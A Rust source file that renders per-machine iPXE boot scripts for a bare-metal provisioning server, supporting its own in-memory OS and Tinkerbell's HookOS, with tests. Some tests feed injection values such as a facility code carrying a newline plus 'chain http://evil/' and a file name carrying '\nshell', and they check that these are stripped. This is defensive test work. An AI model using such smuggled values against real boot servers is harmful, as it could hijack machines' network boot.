//! The per-machine iPXE script: our worker's in-memory OS, or HookOS (Tinkerbell's)
//! with the kernel line its `hook-bootkit` reads, as Smee writes it.

use super::body::Body;
use super::{HttpServer, status};
use hyper::{Response, StatusCode};
use std::net::IpAddr;
use std::sync::atomic::Ordering;
use tinker_core::model::Hardware;
use tinker_core::store::EventKind;
use tinker_core::{MacAddr, Secret};

/// What the default script boots: the in-memory OS with the worker agent.
#[derive(Debug, Clone, Default)]
pub struct OsieConfig {
    /// Base URL of kernel and initrd, such as `http://10.0.0.1:8080/assets`.
    pub base_url: String,
    /// Kernel file name.
    pub kernel: String,
    /// Initrd file name.
    pub initrd: String,
    /// The control plane's URL, passed as `tinker_server=` for the worker.
    pub control_plane: String,
    /// Extra kernel arguments (console, ...), before the Hardware's own.
    pub extra_args: Vec<String>,
    /// The worker API's secret: when set, the script a machine fetches from its
    /// own address carries its bearer token (`tinker_token=`, see
    /// [`worker_token`](crate::credentials::worker_token)); anyone else gets the
    /// script without it.
    pub worker_secret: Option<tinker_core::Secret>,
    /// The in-memory OS of machines whose Hardware does not choose one (with
    /// the [`IN_MEMORY_OS_ANNOTATION`]).
    pub default_os: InMemoryOs,
    /// What HookOS is told, for the machines that boot it.
    pub hookos: HookOsConfig,
}

/// The Hardware annotation that chooses a machine's in-memory OS: `hookos`
/// or `tinker`. Without it, [`OsieConfig::default_os`] decides, so Hardware
/// brought from Tinkerbell boots HookOS unchanged when the control plane says so.
pub const IN_MEMORY_OS_ANNOTATION: &str = "tinker.dev/in-memory-os";

/// The in-memory OS a machine boots to run its workflow.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
#[non_exhaustive]
pub enum InMemoryOs {
    /// Ours: a kernel and initrd whose init runs `tinker-worker` against the
    /// HTTP worker API (`tinker_server=`, `tinker_token=`).
    #[default]
    Tinker,
    /// Tinkerbell's HookOS: `hook-bootkit` reads `grpc_authority=`,
    /// `worker_id=` and the rest from the kernel line and starts tink-agent,
    /// which speaks gRPC.
    HookOs,
}

impl InMemoryOs {
    /// The annotation's value for this OS.
    pub fn as_str(self) -> &'static str {
        match self {
            InMemoryOs::Tinker => "tinker",
            InMemoryOs::HookOs => "hookos",
        }
    }
}

impl std::str::FromStr for InMemoryOs {
    type Err = UnknownOs;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "tinker" => Ok(InMemoryOs::Tinker),
            "hookos" | "hook" => Ok(InMemoryOs::HookOs),
            _ => Err(UnknownOs(s.to_string())),
        }
    }
}

/// An in-memory OS name other than `tinker` and `hookos`.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown in-memory OS {0:?}: expected `tinker` or `hookos`")]
pub struct UnknownOs(pub String);

/// Smee's module and console arguments, on every HookOS kernel line.
pub const SMEE_KERNEL_ARGS: [&str; 6] = [
    "modules=loop,squashfs,sd-mod,usb-storage",
    "intel_iommu=on",
    "iommu=pt",
    "initrd=${initrd}",
    "console=tty0",
    "console=ttyS1,115200",
];

/// The port tink-agent's gRPC service listens on in Tinkerbell.
pub const TINK_GRPC_PORT: u16 = 42113;

/// What the HookOS kernel line says, as Smee writes it for `hook-bootkit`.
#[derive(Debug, Clone)]
pub struct HookOsConfig {
    /// Where `vmlinuz-<arch>` and `initramfs-<arch>` are (empty: the
    /// [`OsieConfig::base_url`]); a Hardware's `osie.baseURL` wins.
    pub base_url: String,
    /// `grpc_authority=`: the gRPC service tink-agent dials, `host:port`
    /// (the control plane fills in its address and [`TINK_GRPC_PORT`]).
    pub grpc_authority: String,
    /// `syslog_host=`: where HookOS (and iPXE) send their logs (the control
    /// plane fills in its address when it runs the syslog receiver).
    pub syslog_host: String,
    /// `tinkerbell_tls=`: whether tink-agent dials gRPC over TLS.
    pub tls: bool,
    /// `tinkerbell_insecure_tls=`: TLS without checking the certificate.
    pub insecure_tls: bool,
    /// `tink_worker_image=`: the agent image hook-bootkit starts (`None`:
    /// HookOS's own default).
    pub tink_worker_image: Option<String>,
    /// Smee's module and console arguments ([`SMEE_KERNEL_ARGS`]); a test VM
    /// or a machine with another serial port changes them here or, per
    /// machine, in its `osie.kernelParams` (which come last and win).
    pub kernel_args: Vec<String>,
    /// Further arguments for every HookOS machine, after the image and before
    /// the Hardware's `osie.kernelParams`.
    pub extra_args: Vec<String>,
}

impl Default for HookOsConfig {
    fn default() -> Self {
        HookOsConfig {
            base_url: String::new(),
            grpc_authority: String::new(),
            syslog_host: String::new(),
            tls: false,
            insecure_tls: false,
            tink_worker_image: None,
            kernel_args: SMEE_KERNEL_ARGS.iter().map(|a| a.to_string()).collect(),
            extra_args: Vec::new(),
        }
    }
}

/// Which in-memory OS `hw` boots: its annotation's choice, else the
/// configuration's. An annotation naming no known OS is ignored (and logged).
pub fn in_memory_os(hw: &Hardware, osie: &OsieConfig) -> InMemoryOs {
    let chosen = hw
        .metadata
        .annotations
        .as_ref()
        .and_then(|a| a.get(IN_MEMORY_OS_ANNOTATION));
    match chosen.map(|v| v.parse::<InMemoryOs>()) {
        Some(Ok(os)) => os,
        Some(Err(e)) => {
            tracing::warn!(machine = %hw.metadata.name, error = %e, "ignoring the in-memory OS annotation");
            osie.default_os
        }
        None => osie.default_os,
    }
}

/// The kernel and initrd, by name under [`OsieConfig::base_url`], that the
/// machine's script sends it to: `None` when it boots something else (netboot
/// off, a script of its own, HookOS) or its Hardware names another base URL.
pub fn osie_assets(hw: &Hardware, mac: MacAddr, osie: &OsieConfig) -> Option<(String, String)> {
    let netboot = hw.interface(mac).and_then(|i| i.netboot.as_ref())?;
    if netboot.allow_pxe != Some(true)
        || netboot
            .ipxe
            .as_ref()
            .is_some_and(|i| i.contents.is_some() || i.url.is_some())
        || in_memory_os(hw, osie) != InMemoryOs::Tinker
    {
        return None;
    }
    let o = netboot.osie.as_ref();
    if o.is_some_and(|o| o.base_url.is_some()) {
        return None;
    }
    Some((
        o.and_then(|o| o.kernel.clone())
            .unwrap_or_else(|| osie.kernel.clone()),
        o.and_then(|o| o.initrd.clone())
            .unwrap_or_else(|| osie.initrd.clone()),
    ))
}

/// The script of a machine whose in-memory OS is not there yet: it says what
/// is missing on the console and asks for its script again (relative to its
/// own URL), so it boots once the operator has built it.
pub fn osie_missing_script(missing: &[&str]) -> String {
    let secs = super::OSIE_MISSING_RETRY_SECONDS;
    format!(
        "#!ipxe\necho Tinker: the in-memory OS is not on the server ({} missing from its assets); asking again in {secs} s\nsleep {secs}\nchain --replace --autofree auto.ipxe\n",
        missing
            .iter()
            // A name is the operator's: nothing in it may end the echo line
            // or be expanded by iPXE (`${...}`).
            .map(|f| f.replace(
                |c: char| !(c.is_ascii_alphanumeric() || "._-/+".contains(c)),
                "_"
            ))
            .collect::<Vec<_>>()
            .join(" and ")
    )
}

/// Renders the script for a machine; `token` is its worker token, for the
/// machine itself only.
pub fn script(hw: &Hardware, mac: MacAddr, osie: &OsieConfig, token: Option<&Secret>) -> String {
    let iface = hw.interface(mac);
    let netboot = iface.and_then(|i| i.netboot.as_ref());
    if netboot.and_then(|n| n.allow_pxe) != Some(true) {
        // Netboot is off (the install finished, or an operator said so): boot the
        // local disk, so a machine whose BMC cannot set the boot device still
        // ends up in its installed OS.
        return format!(
            "#!ipxe\necho Tinker: netboot is off for {mac}; booting from the local disk\nsanboot --no-describe --drive 0x80 || exit\n"
        );
    }
    if let Some(ipxe) = netboot.and_then(|n| n.ipxe.as_ref()) {
        if let Some(contents) = &ipxe.contents {
            return contents.clone();
        }
        if let Some(url) = &ipxe.url {
            return format!(
                "#!ipxe\necho Tinker: chaining to the script set for {mac}\nchain --autofree {url}\n"
            );
        }
    }
    let o = netboot.and_then(|n| n.osie.as_ref());
    if in_memory_os(hw, osie) == InMemoryOs::HookOs {
        return hookos_script(hw, mac, iface, o, osie);
    }
    let base = o
        .and_then(|o| o.base_url.clone())
        .unwrap_or_else(|| osie.base_url.clone());
    let kernel = o
        .and_then(|o| o.kernel.clone())
        .unwrap_or_else(|| osie.kernel.clone());
    let initrd = o
        .and_then(|o| o.initrd.clone())
        .unwrap_or_else(|| osie.initrd.clone());
    let mut args = vec![
        // UEFI iPXE hands the initrd to the kernel only if the kernel line names it.
        format!("initrd={initrd}"),
        format!("tinker_server={}", osie.control_plane),
        format!("worker_id={mac}"),
        format!("hw_addr={mac}"),
    ];
    if let Some(token) = token {
        args.push(format!("tinker_token={}", token.expose()));
    }
    if let Some(host) = iface
        .and_then(|i| i.dhcp.as_ref())
        .and_then(|d| d.hostname.as_ref())
    {
        args.push(format!("hostname={host}"));
    }
    args.extend(osie.extra_args.iter().cloned());
    args.extend(o.map(|o| o.kernel_params.clone()).unwrap_or_default());
    let args = args.join(" ");
    format!(
        r#"#!ipxe

echo Tinker: loading the in-memory OS for {mac} ({name})
set base-url {base}
set retries:int32 10
set retry_delay:int32 3

set idx:int32 0
:retry_kernel
kernel ${{base-url}}/{kernel} {args} && goto download_initrd || iseq ${{idx}} ${{retries}} && goto kernel-error || inc idx && echo retry in ${{retry_delay}} seconds ; sleep ${{retry_delay}} ; goto retry_kernel

:download_initrd
set idx:int32 0
:retry_initrd
initrd ${{base-url}}/{initrd} && goto boot || iseq ${{idx}} ${{retries}} && goto initrd-error || inc idx && echo retry in ${{retry_delay}} seconds ; sleep ${{retry_delay}} ; goto retry_initrd

:boot
boot || goto boot-error

:kernel-error
echo Tinker: failed to load the kernel
goto give-up
:initrd-error
echo Tinker: failed to load the initrd
goto give-up
:boot-error
echo Tinker: failed to boot
:give-up
imgfree
exit
"#,
        name = hw.metadata.name
    )
}

/// HookOS's artifacts are built per architecture: `vmlinuz-x86_64`,
/// `initramfs-aarch64` and so on.
fn hookos_arch(iface: Option<&tinker_core::model::Interface>) -> &'static str {
    match iface
        .and_then(|i| i.dhcp.as_ref())
        .and_then(|d| d.arch.as_deref())
    {
        Some("aarch64" | "arm64") => "aarch64",
        // Smee's default, and the only other architecture HookOS is built for.
        _ => "x86_64",
    }
}

/// The value of `worker_id=`: the Hardware's `spec.agentID` when set (what
/// tink-agent then names itself), else the MAC, as Smee does.
fn worker_id(hw: &Hardware, mac: MacAddr) -> String {
    match hw.spec.extra.get("agentID").and_then(|v| v.as_str()) {
        Some(id) if !id.is_empty() && is_word(id) => id.to_string(),
        _ => mac.to_string(),
    }
}

/// Whether a Hardware's value can stand in one kernel-line word: a space would
/// split it, and a line break would start another iPXE command.
fn is_word(value: &str) -> bool {
    !value.chars().any(|c| c.is_whitespace() || c.is_control())
}

/// The value of `facility=`: the Hardware's `metadata.facility.facility_code`
/// (empty when unset, as Smee writes it).
fn facility(hw: &Hardware) -> String {
    hw.spec
        .metadata
        .as_ref()
        .and_then(|m| m.extra.get("facility"))
        .and_then(|f| f.get("facility_code"))
        .and_then(|c| c.as_str())
        .filter(|c| is_word(c))
        .unwrap_or_default()
        .to_string()
}

/// The HookOS kernel line's words, in Smee's order: hook-bootkit's
/// parameters, Smee's module and console arguments, the agent image and the
/// extra arguments, then the Hardware's `osie.kernelParams` last (the kernel
/// keeps the last of a repeated parameter, so the machine's own win).
pub fn hookos_kernel_args(hw: &Hardware, mac: MacAddr, osie: &OsieConfig) -> Vec<String> {
    let iface = hw.interface(mac);
    let h = &osie.hookos;
    let mut args = Vec::new();
    if let Some(vlan) = iface
        .and_then(|i| i.dhcp.as_ref())
        .and_then(|d| d.vlan_id.as_deref())
        .filter(|v| !v.is_empty() && is_word(v))
    {
        args.push(format!("vlan_id={vlan}"));
    }
    args.extend([
        format!("facility={}", facility(hw)),
        format!("syslog_host={}", h.syslog_host),
        format!("grpc_authority={}", h.grpc_authority),
        format!("tinkerbell_tls={}", h.tls),
        format!("tinkerbell_insecure_tls={}", h.insecure_tls),
        format!("worker_id={}", worker_id(hw, mac)),
        format!("hw_addr={mac}"),
    ]);
    args.extend(h.kernel_args.iter().cloned());
    if let Some(image) = &h.tink_worker_image {
        args.push(format!("tink_worker_image={image}"));
    }
    args.extend(h.extra_args.iter().cloned());
    let netboot = iface.and_then(|i| i.netboot.as_ref());
    if let Some(o) = netboot.and_then(|n| n.osie.as_ref()) {
        args.extend(o.kernel_params.iter().cloned());
    }
    args
}

/// The script that boots HookOS, shaped as Smee's `auto.ipxe`.
fn hookos_script(
    hw: &Hardware,
    mac: MacAddr,
    iface: Option<&tinker_core::model::Interface>,
    o: Option<&tinker_core::model::Osie>,
    osie: &OsieConfig,
) -> String {
    let arch = hookos_arch(iface);
    let base = o
        .and_then(|o| o.base_url.clone())
        .or_else(|| Some(osie.hookos.base_url.clone()).filter(|b| !b.is_empty()))
        .unwrap_or_else(|| osie.base_url.clone());
    let kernel = o
        .and_then(|o| o.kernel.clone())
        .unwrap_or_else(|| "vmlinuz-${arch}".into());
    let initrd = o
        .and_then(|o| o.initrd.clone())
        .unwrap_or_else(|| "initramfs-${arch}".into());
    let args = hookos_kernel_args(hw, mac, osie).join(" ");
    // iPXE logs to syslog too once told where; it takes only an address.
    let syslog = match osie.hookos.syslog_host.as_str() {
        "" => String::new(),
        host => format!(
            "set check:ipv4 {host} && set syslog {host} || nslookup syslog {host} || echo Tinker: cannot resolve the syslog host {host}\nclear check\n"
        ),
    };
    format!(
        r#"#!ipxe

{syslog}echo Tinker: loading HookOS for {mac} ({name})

set arch {arch}
set download-url {base}
set kernel {kernel}
set initrd {initrd}
set retries:int32 10
set retry_delay:int32 3

set idx:int32 0
:retry_kernel
kernel ${{download-url}}/${{kernel}} {args} && goto download_initrd || iseq ${{idx}} ${{retries}} && goto kernel-error || inc idx && echo retry in ${{retry_delay}} seconds ; sleep ${{retry_delay}} ; goto retry_kernel

:download_initrd
set idx:int32 0
:retry_initrd
initrd ${{download-url}}/${{initrd}} && goto boot || iseq ${{idx}} ${{retries}} && goto initrd-error || inc idx && echo retry in ${{retry_delay}} seconds ; sleep ${{retry_delay}} ; goto retry_initrd

:boot
set idx:int32 0
:retry_boot
boot || iseq ${{idx}} ${{retries}} && goto boot-error || inc idx && echo retry in ${{retry_delay}} seconds ; sleep ${{retry_delay}} ; goto retry_boot

:kernel-error
echo Tinker: failed to load the kernel
imgfree
exit

:initrd-error
echo Tinker: failed to load the initrd
imgfree
exit

:boot-error
echo Tinker: failed to boot
imgfree
exit
"#,
        name = hw.metadata.name
    )
}

impl HttpServer {
    pub(super) async fn script_by_mac(&self, mac: &str, caller: IpAddr) -> Response<Body> {
        let Ok(mac) = mac.replace('-', ":").parse::<MacAddr>() else {
            return status(StatusCode::BAD_REQUEST, "not a MAC address\n");
        };
        match self.config.store.hardware_by_mac(mac).await {
            Ok(Some(hw)) => self.serve_script(&hw.value, mac, caller).await,
            Ok(None) => status(StatusCode::NOT_FOUND, "unknown machine\n"),
            Err(e) => {
                tracing::warn!(%mac, error = %e, "store lookup failed");
                status(StatusCode::SERVICE_UNAVAILABLE, "store unavailable\n")
            }
        }
    }

    pub(super) async fn script_by_ip(&self, caller: IpAddr) -> Response<Body> {
        match self.config.store.hardware_by_ip(caller).await {
            Ok(Some(hw)) => {
                let mac = hw
                    .value
                    .spec
                    .interfaces
                    .iter()
                    .filter_map(|i| i.dhcp.as_ref())
                    .find(|d| {
                        d.ip.as_ref()
                            .is_some_and(|ip| ip.address.parse::<IpAddr>().ok() == Some(caller))
                    })
                    .and_then(|d| d.mac.parse().ok());
                match mac {
                    Some(mac) => self.serve_script(&hw.value, mac, caller).await,
                    None => status(StatusCode::NOT_FOUND, "unknown machine\n"),
                }
            }
            Ok(None) => status(StatusCode::NOT_FOUND, "unknown machine\n"),
            Err(_) => status(StatusCode::SERVICE_UNAVAILABLE, "store unavailable\n"),
        }
    }

    /// The script, with the machine's token only when the caller is the
    /// machine: anyone can learn a MAC, so the by-MAC route gives others the
    /// script without it.
    async fn serve_script(&self, hw: &Hardware, mac: MacAddr, caller: IpAddr) -> Response<Body> {
        self.stats.scripts.fetch_add(1, Ordering::Relaxed);
        if let Some(missing) = self.osie_missing(hw, mac).await {
            self.stats
                .scripts_osie_missing
                .fetch_add(1, Ordering::Relaxed);
            tracing::warn!(%mac, machine = %hw.metadata.name, ?missing, "the in-memory OS is missing from the assets: the machine is told to wait");
            return plain_script(osie_missing_script(
                &missing.iter().map(String::as_str).collect::<Vec<_>>(),
            ));
        }
        let itself = self.config.callers.is_machine(hw, mac, caller);
        let token =
            match &self.config.osie.worker_secret {
                Some(secret) if itself && hw.allows_pxe() => Some(
                    crate::credentials::worker_token(secret, &mac.to_string(), hw.netboot_since()),
                ),
                Some(_) => {
                    self.stats
                        .scripts_without_token
                        .fetch_add(1, Ordering::Relaxed);
                    None
                }
                None => None,
            };
        tracing::info!(%mac, machine = %hw.metadata.name, %caller, allow_pxe = hw.allows_pxe(), with_token = token.is_some(), "iPXE script served");
        if itself {
            // What "why is it pending?" and the timeline read.
            let machine = format!("{}/{}", hw.metadata.namespace(), hw.metadata.name);
            self.record_machine_event(machine, EventKind::IpxeScriptServed { mac });
        }
        plain_script(script(hw, mac, &self.config.osie, token.as_ref()))
    }

    /// The files of the machine's in-memory OS missing from the assets, when
    /// this server serves them; `None` when nothing is missing.
    async fn osie_missing(&self, hw: &Hardware, mac: MacAddr) -> Option<Vec<String>> {
        if !self.config.osie_from_assets {
            return None;
        }
        let (kernel, initrd) = osie_assets(hw, mac, &self.config.osie)?;
        let mut missing = Vec::new();
        for f in [kernel, initrd] {
            let here = match &self.config.assets {
                Some(assets) => assets.contains(&f).await,
                None => false,
            };
            if !here {
                missing.push(f);
            }
        }
        (!missing.is_empty()).then_some(missing)
    }
}

fn plain_script(body: String) -> Response<Body> {
    let mut r = Response::new(super::body::full(body));
    r.headers_mut()
        .insert("content-type", "text/plain".parse().expect("static header"));
    r.headers_mut()
        .insert("cache-control", "no-store".parse().expect("static header"));
    r
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    const MAC: MacAddr = MacAddr([0x3c, 0xec, 0xef, 0x4c, 0x4f, 0x54]);

    #[test]
    fn a_missing_file_name_cannot_change_the_waiting_script() {
        let s = osie_missing_script(&["vmlinuz\nshell", "${net0/ip}.img"]);
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 4, "{s}");
        assert_eq!(lines[0], "#!ipxe");
        assert!(
            lines[1].contains("(vmlinuz_shell and __net0/ip_.img missing"),
            "{s}"
        );
        assert_eq!(lines[3], "chain --replace --autofree auto.ipxe");
    }

    fn hookos_config() -> OsieConfig {
        OsieConfig {
            base_url: "http://10.0.0.1:8080/assets".into(),
            kernel: "vmlinuz".into(),
            initrd: "initrd.img".into(),
            control_plane: "http://10.0.0.1:8080".into(),
            default_os: InMemoryOs::HookOs,
            hookos: HookOsConfig {
                grpc_authority: "10.0.0.1:42113".into(),
                syslog_host: "10.0.0.1".into(),
                tink_worker_image: Some("quay.io/tinkerbell/tink-agent:v0.20".into()),
                extra_args: vec!["extra=1".into()],
                ..HookOsConfig::default()
            },
            ..OsieConfig::default()
        }
    }

    /// A Hardware as Tinkerbell users write it: `spec.agentID`, the
    /// facility, a VLAN, the architecture and `osie.kernelParams`.
    fn tinkerbell_hardware() -> Hardware {
        let mut hw = Hardware::new("m1", MAC, Ipv4Addr::new(10, 0, 0, 7), "255.255.255.0");
        hw.spec.extra.insert(
            "agentID".into(),
            serde_json::from_value(serde_json::json!("agent-7")).unwrap(),
        );
        hw.spec.metadata = Some(
            serde_json::from_value(serde_json::json!({"facility": {"facility_code": "onprem"}}))
                .unwrap(),
        );
        let iface = &mut hw.spec.interfaces[0];
        let dhcp = iface.dhcp.as_mut().unwrap();
        dhcp.vlan_id = Some("16".into());
        dhcp.arch = Some("aarch64".into());
        iface.netboot.as_mut().unwrap().osie = Some(tinker_core::model::Osie {
            kernel_params: vec!["console=ttyAMA0".into(), "extra=2".into()],
            ..Default::default()
        });
        hw
    }

    fn kernel_line(script: &str) -> Vec<&str> {
        let line = script
            .lines()
            .find(|l| l.starts_with("kernel "))
            .expect("a kernel line");
        let (args, tail) = line.split_once(" && ").expect("the retry tail");
        assert!(tail.starts_with("goto download_initrd ||"), "{line}");
        args.split(' ').collect()
    }

    #[test]
    fn hookos_script_has_smees_shape_and_kernel_line() {
        let script = script(&tinkerbell_hardware(), MAC, &hookos_config(), None);
        let lines: Vec<&str> = script.lines().collect();
        assert_eq!(lines[0], "#!ipxe");
        // Smee's variables, HookOS's artifact names by the machine's arch.
        for want in [
            "set arch aarch64",
            "set download-url http://10.0.0.1:8080/assets",
            "set kernel vmlinuz-${arch}",
            "set initrd initramfs-${arch}",
            "initrd ${download-url}/${initrd} && goto boot || iseq ${idx} ${retries} && goto initrd-error || inc idx && echo retry in ${retry_delay} seconds ; sleep ${retry_delay} ; goto retry_initrd",
            "boot || iseq ${idx} ${retries} && goto boot-error || inc idx && echo retry in ${retry_delay} seconds ; sleep ${retry_delay} ; goto retry_boot",
        ] {
            assert!(lines.contains(&want), "no {want:?} in:\n{script}");
        }
        // iPXE's own log goes to the syslog host first.
        assert!(lines[2].starts_with("set check:ipv4 10.0.0.1 && set syslog 10.0.0.1 ||"));
        // Smee's labels, in Smee's order.
        let labels: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| l.starts_with(':'))
            .collect();
        assert_eq!(
            labels,
            [
                ":retry_kernel",
                ":download_initrd",
                ":retry_initrd",
                ":boot",
                ":retry_boot",
                ":kernel-error",
                ":initrd-error",
                ":boot-error"
            ]
        );
        assert_eq!(
            kernel_line(&script),
            [
                "kernel",
                "${download-url}/${kernel}",
                "vlan_id=16",
                "facility=onprem",
                "syslog_host=10.0.0.1",
                "grpc_authority=10.0.0.1:42113",
                "tinkerbell_tls=false",
                "tinkerbell_insecure_tls=false",
                "worker_id=agent-7",
                "hw_addr=3c:ec:ef:4c:4f:54",
                "modules=loop,squashfs,sd-mod,usb-storage",
                "intel_iommu=on",
                "iommu=pt",
                "initrd=${initrd}",
                "console=tty0",
                "console=ttyS1,115200",
                "tink_worker_image=quay.io/tinkerbell/tink-agent:v0.20",
                "extra=1",
                // The Hardware's own last: the kernel keeps the last of a repeat.
                "console=ttyAMA0",
                "extra=2",
            ]
        );
    }

    #[test]
    fn hookos_defaults_follow_smee() {
        // No agent id: the MAC; no facility: empty; no arch: x86_64; no VLAN: no vlan_id.
        let hw = Hardware::new("m1", MAC, Ipv4Addr::new(10, 0, 0, 7), "255.255.255.0");
        let osie = OsieConfig {
            hookos: HookOsConfig {
                tls: true,
                ..HookOsConfig::default()
            },
            ..hookos_config()
        };
        let script = script(&hw, MAC, &osie, None);
        assert!(script.contains("\nset arch x86_64\n"), "{script}");
        let args = kernel_line(&script);
        assert!(args.contains(&"worker_id=3c:ec:ef:4c:4f:54"));
        assert!(args.contains(&"facility="));
        assert!(args.contains(&"tinkerbell_tls=true"));
        assert!(!args.iter().any(|a| a.starts_with("vlan_id=")));
        assert!(!args.iter().any(|a| a.starts_with("tink_worker_image=")));
        // No syslog host: iPXE is not told one.
        assert!(!script.contains("set syslog"), "{script}");
        // The Hardware's own kernel and initrd names and base URL win.
        let mut hw = hw;
        hw.spec.interfaces[0].netboot.as_mut().unwrap().osie = Some(tinker_core::model::Osie {
            base_url: Some("http://mirror/hook".into()),
            kernel: Some("vmlinuz-custom".into()),
            initrd: Some("initramfs-custom".into()),
            ..Default::default()
        });
        let script = super::script(&hw, MAC, &osie, None);
        for want in [
            "\nset download-url http://mirror/hook\n",
            "\nset kernel vmlinuz-custom\n",
            "\nset initrd initramfs-custom\n",
        ] {
            assert!(script.contains(want), "no {want:?} in:\n{script}");
        }
    }

    #[test]
    fn hardware_values_cannot_split_the_kernel_line_or_the_script() {
        let mut hw = tinkerbell_hardware();
        hw.spec.extra.insert(
            "agentID".into(),
            serde_json::from_value(serde_json::json!("a b\nshell")).unwrap(),
        );
        hw.spec.metadata = Some(
            serde_json::from_value(
                serde_json::json!({"facility": {"facility_code": "x\nchain http://evil/"}}),
            )
            .unwrap(),
        );
        hw.spec.interfaces[0].dhcp.as_mut().unwrap().vlan_id = Some("16 evil=1".into());
        let script = script(&hw, MAC, &hookos_config(), None);
        assert!(
            !script.contains("evil") && !script.contains("\nshell"),
            "{script}"
        );
        let args = kernel_line(&script);
        assert!(args.contains(&"worker_id=3c:ec:ef:4c:4f:54"), "{args:?}");
        assert!(args.contains(&"facility="), "{args:?}");
        assert!(!args.iter().any(|a| a.starts_with("vlan_id=")), "{args:?}");
    }

    #[test]
    fn the_annotation_or_the_configuration_chooses_the_os() {
        let token = Secret::new("tok");
        let mut hw = tinkerbell_hardware();
        // The configuration says HookOS: Tinkerbell's Hardware needs no edit.
        let hook = script(&hw, MAC, &hookos_config(), Some(&token));
        assert!(hook.contains("grpc_authority=") && !hook.contains("tinker_server="));
        // tink-agent takes no token: it is never put on HookOS's line.
        assert!(!hook.contains("tok"), "{hook}");
        // The annotation overrides the configuration, either way.
        hw.metadata.annotations = Some([(IN_MEMORY_OS_ANNOTATION.into(), "tinker".into())].into());
        let ours = script(&hw, MAC, &hookos_config(), Some(&token));
        assert!(ours.contains("tinker_server=") && ours.contains("tinker_token=tok"));
        assert!(!ours.contains("grpc_authority="));
        let ours_by_default = OsieConfig {
            default_os: InMemoryOs::Tinker,
            ..hookos_config()
        };
        hw.metadata.annotations = Some([(IN_MEMORY_OS_ANNOTATION.into(), "HookOS".into())].into());
        assert!(script(&hw, MAC, &ours_by_default, None).contains("grpc_authority="));
        // An unknown value is ignored: the configuration decides.
        hw.metadata.annotations = Some([(IN_MEMORY_OS_ANNOTATION.into(), "windows".into())].into());
        assert!(!script(&hw, MAC, &ours_by_default, None).contains("grpc_authority="));
        assert!(script(&hw, MAC, &hookos_config(), None).contains("grpc_authority="));
        // Netboot off still boots the disk, whatever the OS.
        hw.spec.interfaces[0].netboot.as_mut().unwrap().allow_pxe = Some(false);
        assert!(script(&hw, MAC, &hookos_config(), None).contains("sanboot"));
    }
}
